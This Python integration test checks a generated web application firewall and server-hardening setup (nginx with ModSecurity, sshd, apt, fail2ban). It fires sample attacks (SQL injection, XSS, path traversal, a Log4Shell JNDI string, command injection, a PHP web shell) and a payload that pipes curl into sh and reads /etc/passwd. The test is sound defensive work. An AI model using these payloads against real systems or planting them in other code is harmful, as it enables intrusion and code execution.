#!/usr/bin/env python3
"""security.py STACKGEN: what is written for the web application firewall and for hardening, on the real programs.

nginx 1.22 with ModSecurity 3.0 and the Core Rule Set 3.3, as Debian 12 has them, runs the generated files of the
reference stack in a namespace of its own, in front of stand-ins that answer 200 to everything: once as it is
(detection), once with `blocking`. Attacks must be logged and then refused; what the products' own clients send must pass.
Then sshd, apt and fail2ban read their files, and host/apply.sh is asked to lock somebody out.
"""

import http.client
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ROOT = pathlib.Path(__file__).resolve().parents[2]
TOOLS = pathlib.Path(os.environ.get("STACKGEN_TOOLS", ROOT / "target/tools"))
TREE = TOOLS / "root/security"
HOSTS = {"odoo": "erp.insightpulseai.net", "n8n": "n8n.insightpulseai.net", "superset": "superset.insightpulseai.net"}
UPSTREAMS = {"odoo:8069": 18069, "odoo:8072": 18069, "n8n:5678": 18069, "superset:8088": 18069}
failed = 0


def check(what, good, seen=""):
    global failed
    failed += not good
    print(("ok   " if good else "FAIL ") + what + ("" if good else f": {seen}"), flush=True)
    return good


def run(*command, **options):
    return subprocess.run([str(word) for word in command], capture_output=True, text=True, timeout=120, **options)


# --- The stack, once per mode --------------------------------------------------------------------------------------


def build(stackgen, work, name, overlay=""):
    folder = work / name
    folder.mkdir()
    base = (ROOT / "stacks/odoo-erp-prod/stack.yaml").read_text()
    (folder / "stack.yaml").write_text(base)
    (folder / "stack.secure.yaml").write_text(overlay)
    result = run(stackgen, "build", folder, "--env", "secure", "-o", folder / "deploy")
    if not check(f"{name}: it is built", result.returncode == 0, result.stdout + result.stderr):
        sys.exit(1)
    return folder / "deploy"


def overlay(mode, **more):
    return f"""stackgen: 1
proxy: {{ runs_in: container }}
security:
  waf: {{ mode: {mode}, sites: [odoo, n8n, superset] }}
{more.get("more", "")}"""


def place(deploy, name):
    """The files where the tree of Debian's packages finds them; nothing else changes than paths, ports and addresses."""
    there = TREE / "etc/nginx" / name
    shutil.rmtree(there, ignore_errors=True)
    shutil.copytree(deploy / "nginx", there)
    (TREE / "var/lib/nginx").mkdir(parents=True, exist_ok=True)
    certificates = TREE / "etc/nginx/certificates"
    text = (there / "nginx.conf").read_text()
    for path in re.findall(r"ssl_certificate (\S+);", text):
        folder = TREE / path.strip('"/')
        folder.parent.mkdir(parents=True, exist_ok=True)
        if not folder.exists():
            made = run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "30", "-subj", "/CN=test", "-out", folder, "-keyout", folder.parent / "privkey.pem")
            assert made.returncode == 0, made.stderr
    assert certificates.exists()
    for old, new in [
        ("load_module /etc/nginx/modules/", "load_module /usr/share/nginx/modules/"),
        ("user nginx;", "user www-data;"),
        ("/etc/nginx/stackgen/", f"/etc/nginx/{name}/"),
        ("/dev/stdout", f"/var/log/nginx/{name}.access.log"),
        ("/dev/stderr", f"/var/log/nginx/{name}.error.log"),
        ("pid /run/nginx.pid", f"pid /run/{name}.pid"),
        ("resolver 127.0.0.11", "resolver 127.0.0.1"),
        ("http2 on;", ""),  # 1.22 knows it as a word of `listen` only; tests/nginx.rs asks newer versions
    ]:
        text = text.replace(old, new)
    # Upstreams that are resolved again are nginx 1.27.3's; here they are stand-ins at fixed addresses.
    text = re.sub(r"\n\s+zone UPSTREAMS[^;]*;", "", text)
    for address, port in UPSTREAMS.items():
        text = text.replace(f"server {address} resolve;", f"server 127.0.0.1:{port};")
    text = re.sub(r"server (\S+):(\d+) resolve;", "server 127.0.0.1:9;", text)
    (there / "nginx.conf").write_text(text)
    core = there / "waf/core.rules"
    if core.exists():
        core.write_text(core.read_text().replace("/opt/owasp-crs/rules", "/usr/share/modsecurity-crs/rules").replace("/dev/stdout", f"/var/log/nginx/{name}.waf.log"))
    return there


class Nginx:
    """nginx in the tree, until the end of the block."""

    def __init__(self, name):
        self.name, self.conf = name, f"/etc/nginx/{name}/nginx.conf"
        self.log = TREE / f"var/log/nginx/{name}.waf.log"

    def tested(self):
        return run("chroot", TREE, "/usr/sbin/nginx", "-t", "-c", self.conf)

    def __enter__(self):
        (TREE / "var/log/nginx").mkdir(parents=True, exist_ok=True)
        for log in (TREE / "var/log/nginx").glob(f"{self.name}.*"):
            log.unlink()
        self.process = subprocess.Popen(["chroot", str(TREE), "/usr/sbin/nginx", "-c", self.conf, "-g", "daemon off;"], stderr=subprocess.PIPE, text=True)
        deadline = time.time() + 20
        while time.time() < deadline and self.process.poll() is None:
            try:
                socket.create_connection(("127.0.0.1", 443), 1).close()
                return self
            except OSError:
                time.sleep(0.1)
        sys.exit(f"FAIL nginx did not start: {self.process.stderr.read() if self.process.poll() is not None else ''}")

    def __exit__(self, *_):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    def memory(self):
        """Private memory of all processes, in MiB."""
        children = pathlib.Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()
        total = 0
        for pid in [self.process.pid, *children]:
            total += sum(int(line.split()[1]) for line in pathlib.Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines() if line.startswith("Pss:"))
        return total / 1024

    def entries(self):
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines() if line.strip()]


# --- Requests ------------------------------------------------------------------------------------------------------

TLS = ssl.create_default_context()
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def connected(site, timeout=60):
    """A connection to a site, whose name goes nowhere but into the TLS handshake."""
    connection = http.client.HTTPSConnection(HOSTS[site], 443, context=TLS, timeout=timeout)
    connection._create_connection = lambda _, *more: socket.create_connection(("127.0.0.1", 443), *more)
    return connection


def ask(site, method, path, body=None, kind=None, headers=None):
    """The status of one request, as a browser makes it."""
    connection = connected(site)
    sent = {"Host": HOSTS[site], "User-Agent": AGENT, "Accept": "*/*"}
    if kind:
        sent["Content-Type"] = kind
    if headers:
        sent.update(headers)
    try:
        connection.request(method, path, body, sent)
        answer = connection.getresponse()
        answer.read()
        return answer.status
    except OSError as error:
        return str(error)
    finally:
        connection.close()


def ask_json(site, method, path, value):
    return ask(site, method, path, json.dumps(value).encode(), "application/json")


class Stand(BaseHTTPRequestHandler):
    """Answers 200 to everything, 101 to an upgrade."""

    protocol_version = "HTTP/1.1"
    wbufsize = 1 << 16  # an answer is one packet

    def any(self):
        left = int(self.headers.get("Content-Length") or 0)
        while left > 0:
            left -= len(self.rfile.read(min(left, 1 << 20)))
        if self.headers.get("Upgrade") == "websocket":
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "upgrade")
            self.end_headers()
            self.close_connection = True
            self.wfile.flush()
            return
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = any

    def log_message(self, *_):
        pass


def q(text):
    return urllib.parse.quote(text, safe="")


ATTACKS = [
    ("SQL injection", "GET", "/?q=" + q("1' OR '1'='1"), None),
    ("SQL injection, UNION", "GET", "/?id=" + q("-1 UNION SELECT password FROM res_users--"), None),
    ("XSS", "GET", "/?x=" + q("<script>alert(1)</script>"), None),
    ("XSS in an attribute", "GET", "/?x=" + q('"><img src=x onerror=alert(document.cookie)>'), None),
    ("path traversal", "GET", "/?file=" + q("../../../../etc/passwd"), None),
    ("Log4Shell", "GET", "/?x=" + q("${jndi:ldap://192.0.2.1/a}"), None),
    ("shell command", "GET", "/?host=" + q("127.0.0.1;cat /etc/passwd"), None),
    ("PHP code", "GET", "/?x=" + q("<?php system($_GET['c']); ?>"), None),
    ("SQL injection in a form", "POST", "/contact", urllib.parse.urlencode({"name": "1' OR '1'='1' -- "})),
    ("XSS in JSON", "POST", "/contact", json.dumps({"name": "<script>alert(1)</script>"})),
]


def attack(site, method, path, body):
    kind = None if body is None else "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
    return ask(site, method, path, body, kind)


MAIL = "<p>Hello,<br/>see <a href=\"https://example.com/?a=1&amp;b=2\" onclick=\"return true\">our offer</a>; it's 10% off -- or 1=1 of them.</p><img src=\"data:image/png;base64,iVBORw0KGgo=\"/><style>td { color: red }</style>"
CODE = "const items = $input.all();\nfor (const i of items) { i.json.sum = eval('1+1'); }\nrequire('child_process').exec('curl -s https://example.com | sh; cat /etc/passwd');\nreturn items.filter(x => x.json.a === '1' || '1'=='1');"
SQL = "SELECT u.login, count(*) FROM res_users u JOIN account_move m ON m.user_id = u.id WHERE m.state = 'posted' OR '1'='1' UNION ALL SELECT 'x', 1 -- all of them\n"


def rpc(model, method, args):
    return {"id": 1, "jsonrpc": "2.0", "method": "call", "params": {"model": model, "method": method, "args": args, "kwargs": {"context": {"lang": "en_US", "tz": "Asia/Manila"}}}}


def multipart(name, content):
    boundary = "----geckoformboundary1f2e3d"
    head = f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{"a1" * 20}\r\n--{boundary}\r\nContent-Disposition: form-data; name="ufile"; filename="{name}"\r\nContent-Type: application/pdf\r\n\r\n'
    return head.encode() + content + f"\r\n--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def good_requests():
    """What the products' own clients send: name, and a function that sends it."""
    pages = [("odoo", "/web"), ("odoo", "/web/login?redirect=%2Fweb%3F"), ("odoo", "/web/static/src/img/logo.png"), ("odoo", "/web/assets/1-2f3a/web.assets_web.min.js"), ("odoo", "/odoo/action-245/17?debug=assets"), ("odoo", "/web/image/res.partner/7/avatar_128?unique=17a2b"), ("odoo", "/report/pdf/account.report_invoice/42"), ("n8n", "/"), ("n8n", "/workflow/x7Gk2LmQ?projectId=1"), ("n8n", "/rest/workflows?includeScopes=true&filter=" + q('{"isArchived":false}')), ("n8n", "/rest/executions?filter=" + q('{"workflowId":"1"}') + "&limit=10"), ("superset", "/superset/welcome/"), ("superset", "/superset/dashboard/1/?native_filters_key=abc"), ("superset", "/api/v1/chart/?q=" + q("(filters:!((col:slice_name,opr:chart_all_text,value:sales)),order_column:changed_on_delta_humanized,order_direction:desc,page:0,page_size:25)"))]
    for site, path in pages:
        yield f"{site} GET {path.split('?')[0]}", (lambda s=site, p=path: ask(s, "GET", p))
    big = rpc("ir.attachment", "create", [[{"name": "scan.png", "datas": "iVBORw0KGgoAAAANSUhEUgAA" * 42000, "res_model": "account.move"}]])
    many = rpc("account.move", "web_save", [[1], {"line_ids": [[0, f"virtual_{i}", {"name": f"Line {i}", "price_unit": 10.5}] for i in range(400)]}])
    form = urllib.parse.urlencode({"login": "ana@example.com", "password": "x' OR '1'='1 <script>", "csrf_token": "ab12", "redirect": "/web?"})
    upload, upload_kind = multipart("scan.pdf", os.urandom(60 << 20))
    yield "odoo POST /web/login with a strange password", lambda: ask("odoo", "POST", "/web/login", form, "application/x-www-form-urlencoded")
    yield "odoo JSON-RPC search with a domain", lambda: ask_json("odoo", "POST", "/web/dataset/call_kw/res.partner/web_search_read", rpc("res.partner", "web_search_read", [["|", ["name", "ilike", "o'neil; drop"], ["id", "in", [1, 2]]]]))
    yield "odoo JSON-RPC with an HTML field", lambda: ask_json("odoo", "POST", "/web/dataset/call_kw/mail.template/web_save", rpc("mail.template", "web_save", [[1], {"body_html": MAIL}]))
    yield "odoo JSON-RPC of 1 MB", lambda: ask_json("odoo", "POST", "/web/dataset/call_kw/ir.attachment/create", big)
    yield "odoo JSON-RPC of 400 lines", lambda: ask_json("odoo", "POST", "/web/dataset/call_kw/account.move/web_save", many)
    yield "odoo JSON-RPC button", lambda: ask_json("odoo", "POST", "/web/dataset/call_button/account.move/action_post", rpc("account.move", "action_post", [[1]]))
    yield "odoo message with HTML", lambda: ask_json("odoo", "POST", "/mail/message/post", {"id": 1, "jsonrpc": "2.0", "params": {"post_data": {"body": MAIL, "message_type": "comment"}, "thread_id": 1, "thread_model": "res.partner"}})
    yield "odoo upload of 60 MB", lambda: ask("odoo", "POST", "/web/binary/upload_attachment", upload, upload_kind)
    yield "odoo form of 60 MB to any path", lambda: ask("odoo", "POST", "/contactus", upload, upload_kind)
    yield "odoo upload of 60 MB to a message", lambda: ask("odoo", "POST", "/mail/attachment/upload", upload, upload_kind)
    yield "odoo XML-RPC", lambda: ask("odoo", "POST", "/xmlrpc/2/common", "<?xml version='1.0'?><methodCall><methodName>version</methodName><params/></methodCall>", "text/xml")
    yield "n8n PATCH of a workflow with code", lambda: ask_json("n8n", "PATCH", "/rest/workflows/1", {"name": "w", "nodes": [{"type": "n8n-nodes-base.code", "parameters": {"jsCode": CODE}}, {"type": "n8n-nodes-base.postgres", "parameters": {"query": SQL}}, {"parameters": {"command": "={{ $json.cmd }} | tee /tmp/x"}}]})
    yield "n8n run of a workflow", lambda: ask_json("n8n", "POST", "/rest/workflows/1/run", {"workflowData": {"nodes": [{"parameters": {"jsCode": CODE}}]}})
    yield "n8n credential", lambda: ask_json("n8n", "POST", "/rest/credentials", {"name": "db", "type": "postgres", "data": {"password": "a' OR 1=1 --", "host": "db"}})
    yield "n8n webhook with anything in JSON", lambda: ask_json("n8n", "POST", "/webhook/3f2a-11", {"text": MAIL + CODE + SQL, "java": "java.lang.Runtime.getRuntime().exec", "nested": {"$where": "1==1", "a.b": "../../etc/passwd"}})
    yield "n8n webhook with plain text", lambda: ask("n8n", "POST", "/webhook/3f2a-11", CODE, "text/plain")
    yield "n8n DELETE", lambda: ask("n8n", "DELETE", "/rest/workflows/1")
    yield "n8n PUT", lambda: ask_json("n8n", "PUT", "/api/v1/workflows/1", {"name": "w", "nodes": [{"parameters": {"jsCode": CODE}}]})
    yield "superset chart data with SQL", lambda: ask_json("superset", "POST", "/api/v1/chart/data", {"datasource": {"id": 1, "type": "table"}, "queries": [{"extras": {"where": "state = 'posted' OR 1=1", "having": "COUNT(*) > 5"}, "metrics": [{"expressionType": "SQL", "sqlExpression": "SUM(CASE WHEN a = 'b' THEN 1 ELSE 0 END)"}], "filters": [{"col": "x", "op": "LIKE", "val": "%' OR '1'='1"}]}]})
    yield "superset SQL Lab", lambda: ask_json("superset", "POST", "/api/v1/sqllab/execute/", {"database_id": 1, "sql": SQL, "schema": "public", "runAsync": False})
    yield "superset PUT of a dataset with SQL", lambda: ask_json("superset", "PUT", "/api/v1/dataset/3", {"sql": SQL, "metrics": [{"expression": "COUNT(*)"}]})
    yield "superset PUT of a dashboard with a style sheet", lambda: ask_json("superset", "PUT", "/api/v1/dashboard/1", {"css": ".header { background: url(https://example.com/a.png) }", "json_metadata": json.dumps({"filter": {"where": "a = 'b' OR 1=1"}})})
    yield "superset DELETE", lambda: ask("superset", "DELETE", "/api/v1/chart/1")


def websocket(site, path):
    raw = TLS.wrap_socket(socket.create_connection(("127.0.0.1", 443), 20), server_hostname=HOSTS[site])
    raw.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOSTS[site]}\r\nUser-Agent: {AGENT}\r\nAccept: */*\r\nOrigin: https://{HOSTS[site]}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode())
    first = raw.recv(200).decode(errors="replace").split("\r\n")[0]
    raw.close()
    return first


# --- The checks ----------------------------------------------------------------------------------------------------


def passes():
    """What of the good requests does not get 200."""
    return [f"{name}: {status}" for name, status in ((n, send()) for n, send in good_requests()) if status != 200]


def noted(entries):
    """Rules of each entry of the log: ids, and what they matched."""
    return [(e["transaction"]["request"]["uri"][:70], [(m["details"]["ruleId"], m["details"]["data"][:110]) for m in e["transaction"]["messages"]]) for e in entries]


def detection(nginx):
    before = len(nginx.entries())
    for site in HOSTS:
        seen = [(name, attack(site, *rest)) for name, *rest in ATTACKS]
        check(f"detection, {site}: {len(ATTACKS)} attacks pass with 200", all(s == 200 for _, s in seen), seen)
    time.sleep(0.5)
    entries = nginx.entries()[before:]
    check("detection: every attack is in the log", len(entries) == 3 * len(ATTACKS), (len(entries), noted(entries)))
    text = nginx.log.read_text()
    parts = {part for e in entries for part in e["transaction"]["request"]} | {part for e in entries for part in e["transaction"]["response"]}
    check("the log has no headers and no bodies", parts == {"method", "http_version", "uri", "http_code"} and AGENT not in text, parts)
    before = len(nginx.entries())
    wrong = passes()
    check("detection: what clients send passes", not wrong, wrong)
    time.sleep(0.5)
    false = nginx.entries()[before:]
    large = [e for e in false if {m["details"]["ruleId"] for m in e["transaction"]["messages"]} == {"9500005"}]
    check("and none of it is taken for an attack", len(false) == len(large), noted(false))
    paths = {e["transaction"]["request"]["uri"] for e in large}
    check("of the large bodies that are not read to their end, the log says so", "/contactus" in paths and all(p in ("/contactus", "/web/binary/upload_attachment", "/mail/attachment/upload") for p in paths), paths)


def without_exclusions(nginx):
    """What the rules alone would take for an attack: the reason for every exclusion, and that the log sees these requests."""
    found = {}
    for name, send in good_requests():
        before = len(nginx.entries())
        send()
        time.sleep(0.3)
        rules = sorted({m["details"]["ruleId"] for e in nginx.entries()[before:] for m in e["transaction"]["messages"]} - {"9500005"})
        if rules:
            found[name] = rules
    for name, rules in found.items():
        print(f"     without exclusions: {name}: {' '.join(rules)}")
    check("without the exclusions at least 10 good requests look like attacks, of every product", len(found) >= 10 and all(any(n.startswith(s) for n in found) for s in HOSTS), list(found))


def timed(nginx):
    """Seconds for the two largest requests, and the most memory a process ever had, in MiB."""
    sends = dict(good_requests())
    seconds = []
    for name in ("odoo JSON-RPC of 1 MB", "odoo upload of 60 MB", "odoo form of 60 MB to any path"):
        begin = time.time()
        check(f"{nginx.name}: {name} arrives", sends[name]() == 200, "")
        seconds.append(time.time() - begin)
    children = pathlib.Path(f"/proc/{nginx.process.pid}/task/{nginx.process.pid}/children").read_text().split()
    peaks = [int(re.search(r"VmHWM:\s+(\d+)", pathlib.Path(f"/proc/{pid}/status").read_text())[1]) for pid in children]
    return *seconds, max(peaks) / 1024


def blocking(nginx):
    for site in HOSTS:
        seen = [(name, attack(site, *rest)) for name, *rest in ATTACKS]
        check(f"blocking, {site}: {len(ATTACKS)} attacks get 403", all(s == 403 for _, s in seen), seen)
    wrong = passes()
    check("blocking: what clients send passes", not wrong, wrong)
    for site, path in (("odoo", "/websocket?version=18.0-7"), ("n8n", "/rest/push?pushRef=a1")):
        first = websocket(site, path)
        check(f"blocking: a websocket to {site} is upgraded", " 101 " in first, first)
    # An exclusion ends where its path ends.
    bad = q("<script>alert(1)</script>")
    for what, site, method, path, body in [
        ("the query of an excluded path of another class", "superset", "POST", "/api/v1/chart/data?x=" + bad, "{}"),
        ("a path that only begins like an excluded one", "n8n", "POST", "/webhookx", json.dumps({"a": "<script>alert(1)</script>"})),
        ("a path that climbs out of an excluded one", "n8n", "POST", "/webhook/../rest/users?x=" + bad, "{}"),
        ("a header, also where arguments are excluded", "n8n", "POST", "/webhook/1", None),
    ]:
        headers = {"Referer": "https://x/?q=<script>alert(1)</script>", "X-Forwarded-For": "1"} if body is None else None
        status = ask(site, method, path, body or "{}", "application/json", headers)
        check(f"blocking: {what} is refused", status == 403, status)
    padded = json.dumps({"pad": "a" * (3 << 20), "name": "<script>alert(1)</script>"})
    for what, path, headers in [("header", "/contact", {"Referer": "https://x/?q=<script>alert(1)</script>"}), ("query", "/contact?x=" + bad, None), ("query of an upload", "/web/binary/upload_attachment?x=" + bad, None)]:
        status = ask("odoo", "POST", path, padded, "application/json", headers)
        check(f"blocking: an attack in the {what} of a large request is refused", status == 403, status)
    front = json.dumps({"name": "<script>alert(1)</script>", "pad": "a" * (3 << 20)})
    check("blocking: so is one in the beginning of a large body", ask("odoo", "POST", "/contact", front, "application/json") == 403, "")
    check("blocking: TRACE is refused", ask("odoo", "TRACE", "/") in (403, 405), "")
    check("blocking: JSON that is none is refused", ask("odoo", "POST", "/web/dataset/call_kw", '{"a": ', "application/json") in (400, 403), "")


def cost(nginx, seconds=4.0):
    """Requests a second over connections that stay, and memory."""
    counts = {}

    def worker(site, end):
        connection = connected(site, 20)
        headers = {"Host": HOSTS[site], "User-Agent": AGENT, "Accept": "*/*", "Cookie": "session_id=" + "a1" * 20}
        done = 0
        while time.time() < end:
            connection.request("GET", f"/web/action?id={done}&view=list", headers=headers)
            connection.getresponse().read()
            done += 1
        counts[threading.get_ident()] = done

    end = time.time() + seconds
    threads = [threading.Thread(target=worker, args=("odoo", end)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts.values()) / seconds, nginx.memory()


def logins(nginx):
    form = urllib.parse.urlencode({"login": "ana", "password": "wrong"})
    pages = [ask("odoo", "GET", "/web/login") for _ in range(30)]
    check("logins: 30 views of the page pass", pages == [200] * 30, pages)
    tries = [ask("odoo", "POST", "/web/login", form, "application/x-www-form-urlencoded") for _ in range(12)]
    check("logins: the 11th attempt in a minute gets 429", tries == [200] * 10 + [429] * 2, tries)
    around = ["/fr/web/login", "/zh_CN/web/login", "/web//login", "/web/%6cogin", "/web/./login", "/web/login/", "/web/session/authenticate"]
    seen = [(p, ask("odoo", "POST", p, form, "application/x-www-form-urlencoded")) for p in around]
    check("logins: another spelling of the path is no way around", all(s == 429 for _, s in seen), seen)
    check("logins: other requests pass", ask_json("odoo", "POST", "/web/dataset/call_kw", {}) == 200, "")
    check("logins: so do other pages of other sites", ask("n8n", "GET", "/rest/login") == 200, "")
    check("logins: the count is one for all sites", ask_json("superset", "POST", "/login/", {}) == 429, "")


# --- The server itself ---------------------------------------------------------------------------------------------


def host(deploy, work):
    files = deploy / "host"
    judged = run(TOOLS / "bin/shellcheck", "--shell=sh", files / "apply.sh")
    check("shellcheck accepts host/apply.sh", judged.returncode == 0, judged.stdout)
    root = work / "server"
    for folder in ("etc/ssh/sshd_config.d", "root/.ssh", "etc/apt/apt.conf.d", "usr/bin"):
        (root / folder).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    key = work / "hostkey"
    assert run("chroot", TREE, "/usr/bin/true").returncode == 0
    shutil.rmtree(TREE / "keys", ignore_errors=True)
    (TREE / "keys").mkdir()
    made = run("chroot", TREE, "/usr/bin/ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/keys/host")
    assert made.returncode == 0, made.stderr
    (TREE / "run/sshd").mkdir(parents=True, exist_ok=True)
    real = TREE / "server"
    public = (TREE / "keys/host.pub").read_text()

    def config(more=""):
        (root / "etc/ssh/sshd_config").write_text(f"Include /etc/ssh/sshd_config.d/*.conf\nHostKey /keys/host\n{more}PasswordAuthentication yes\n")

    sshd = work / "sshd"
    sshd.write_text(f'#!/bin/sh\nrm -rf {TREE}/etc/ssh/sshd_config.d\nmkdir -p {TREE}/etc/ssh\ncp -r {root}/etc/ssh/sshd_config.d {root}/etc/ssh/sshd_config {TREE}/etc/ssh/\nexec chroot {TREE} /usr/sbin/sshd "$1" -f /etc/ssh/sshd_config\n')
    sshd.chmod(0o755)
    apply = lambda *parts: run("sh", files / "apply.sh", *parts, env={**os.environ, "STACKGEN_ROOT": str(root), "SSHD": str(sshd)})
    drop_in = root / "etc/ssh/sshd_config.d/50-stackgen.conf"
    config()
    for what, keys in [("there is no authorized_keys", None), ("it is empty", ""), ("it has only a comment", "# ssh-ed25519 AAAAC3 nobody\n")]:
        path = root / "root/.ssh/authorized_keys"
        path.unlink(missing_ok=True)
        if keys is not None:
            path.write_text(keys)
        done = apply("ssh")
        check(f"apply.sh refuses to lock out: {what}", done.returncode != 0 and not drop_in.exists(), done.stdout + done.stderr)
    (root / "root/.ssh/authorized_keys").write_text(f'restrict,pty {public}')
    (root / "etc/ssh/sshd_config").write_text("PasswordAuthentication yes\n")
    done = apply("ssh")
    check("apply.sh says when sshd would not read the file", done.returncode != 0 and not drop_in.exists(), done.stderr)
    config("Nonsense yes\n")
    done = apply("ssh")
    check("a file that sshd refuses does not stay", done.returncode != 0 and not drop_in.exists(), done.stdout + done.stderr)
    drop_in.write_text("# mine\n")
    done = apply("ssh")
    check("and the one before comes back", done.returncode != 0 and drop_in.read_text() == "# mine\n", done.stdout + done.stderr)
    config()
    done = apply("ssh")
    check("with a key it is installed", done.returncode == 0 and drop_in.read_text() == (files / "ssh/50-stackgen.conf").read_text(), done.stdout + done.stderr)
    asked = run(sshd, "-T").stdout.splitlines()
    wanted = ["passwordauthentication no", "kbdinteractiveauthentication no", "permitrootlogin without-password", "pubkeyauthentication yes", "maxauthtries 4", "port 22"]
    check("sshd -T: keys only", all(line in asked for line in wanted), [w for w in wanted if w not in asked] + asked[:5])
    done = apply()
    check("a second run changes nothing that is there, and installs the rest", done.returncode == 0 and "is as it should be" in done.stdout, done.stdout + done.stderr)
    again = apply()
    check("a third changes nothing", again.returncode == 0 and again.stdout.count("as it should be") == 3, again.stdout + again.stderr)
    apt(root)
    fail2ban(root)
    shutil.rmtree(real, ignore_errors=True)
    key.unlink(missing_ok=True)


def apt(root):
    parts = root / "etc/apt/apt.conf.d"
    (debian := TREE / "usr/share/unattended-upgrades/50unattended-upgrades").stat()
    shutil.copy(debian, parts)
    (root / "apt.conf").write_text(f'Dir::Etc::parts "{parts}";\n')
    dump = run("apt-config", "dump", env={**os.environ, "APT_CONFIG": str(root / "apt.conf")})
    lines = dump.stdout.splitlines()
    origins = [line for line in lines if line.startswith("Unattended-Upgrade::Origins-Pattern:: ")]
    check("apt-config: security origins, and no others", len(origins) == 2 and all("ecurity" in o for o in origins) and dump.returncode == 0, origins + [dump.stderr])
    wanted = ['APT::Periodic::Unattended-Upgrade "1";', 'Unattended-Upgrade::Package-Blacklist:: "^docker";', 'Unattended-Upgrade::Automatic-Reboot "false";']
    check("apt-config: once a day, Docker left alone, no restart", all(w in lines for w in wanted), [w for w in wanted if w not in lines])
    own = [line for line in lines if line.startswith("Unattended-Upgrade::Package-Blacklist:: ")]
    name = next(line.split('"')[1] for line in own)
    check("and the pattern means Docker's packages", re.match(name, "docker-ce") and not re.match(name, "libdocker"), name)


def fail2ban(root):
    target = TREE / "etc/fail2ban/jail.d"
    target.mkdir(exist_ok=True)
    for old in target.iterdir():
        old.unlink()
    shutil.copy(root / "etc/fail2ban/jail.d/stackgen.conf", target / "stackgen.conf")
    tested = run("chroot", TREE, "/usr/bin/fail2ban-client", "-t")
    check("fail2ban-client -t", tested.returncode == 0 and "OK" in tested.stdout, tested.stdout + tested.stderr)
    dump = run("chroot", TREE, "/usr/bin/fail2ban-client", "-d").stdout
    check("fail2ban: the jail sshd bans by nftables, from the journal", "['add', 'sshd', 'systemd']" in dump and "nftables" in dump and "iptables" not in dump, dump[:800])
    target.joinpath("stackgen.conf").write_text((target / "stackgen.conf").read_text().replace("banaction = nftables[", "banaction = nonsense["))
    check("and a slip in it would be seen", run("chroot", TREE, "/usr/bin/fail2ban-client", "-t").returncode != 0, "")


# --- All of it -----------------------------------------------------------------------------------------------------


def main():
    if os.environ.get("SECURITY_INSIDE") != "1":
        os.environ["SECURITY_INSIDE"] = "1"
        os.execvp("unshare", ["unshare", "--net", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", sys.executable, *sys.argv])
    run("ip", "link", "set", "lo", "up")
    for folder in ("dev", "proc"):
        assert run("mount", "--rbind", f"/{folder}", TREE / folder).returncode == 0
    server = ThreadingHTTPServer(("127.0.0.1", 18069), Stand)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    stackgen = pathlib.Path(sys.argv[1]).resolve()
    with tempfile.TemporaryDirectory() as folder:
        work = pathlib.Path(folder)
        logs = "  logins: { rate: 10r/m, ban: true }\n  ssh: true\n  upgrades: true\n"
        plain = build(stackgen, work, "plain", "stackgen: 1\n")
        watched = build(stackgen, work, "watched", overlay("detection"))
        blocked = build(stackgen, work, "blocked", overlay("blocking"))
        limited = build(stackgen, work, "limited", overlay("detection", more=logs))
        for deploy, name in ((plain, "plain"), (watched, "watched"), (blocked, "blocked"), (limited, "limited")):
            place(deploy, name)
            tested = Nginx(name).tested()
            check(f"{name}: nginx -t", tested.returncode == 0 and "[warn]" not in tested.stderr, tested.stderr)
        with Nginx("plain") as nginx:
            before = *cost(nginx), *timed(nginx)
        with Nginx("watched") as nginx:
            with_waf = *cost(nginx), *timed(nginx)
            detection(nginx)
        with Nginx("blocked") as nginx:
            blocking(nginx)
        for what, unit, a, b in zip(("requests", "memory of all processes", "JSON of 1 MB", "upload of 60 MB", "60 MB to any path", "largest process"), ("/s", " MiB", " s", " s", " s", " MiB"), before, with_waf):
            print(f"     {what}: {a:.4g}{unit} without, {b:.4g}{unit} with the firewall")
        for file in (TREE / "etc/nginx/watched/waf").glob("*.rules"):
            # Methods and limits stay; what is left alone goes.
            file.write_text(re.sub(r"(?m)^Sec(Rule REQUEST_FILENAME|Action \"id:96001)[^\n]*\n", "", file.read_text()))
        with Nginx("watched") as nginx:
            without_exclusions(nginx)
        with Nginx("limited") as nginx:
            logins(nginx)
        host(limited, work)
    server.shutdown()
    print(f"     {failed} failed")
    sys.exit(failed > 0)


if __name__ == "__main__":
    main()
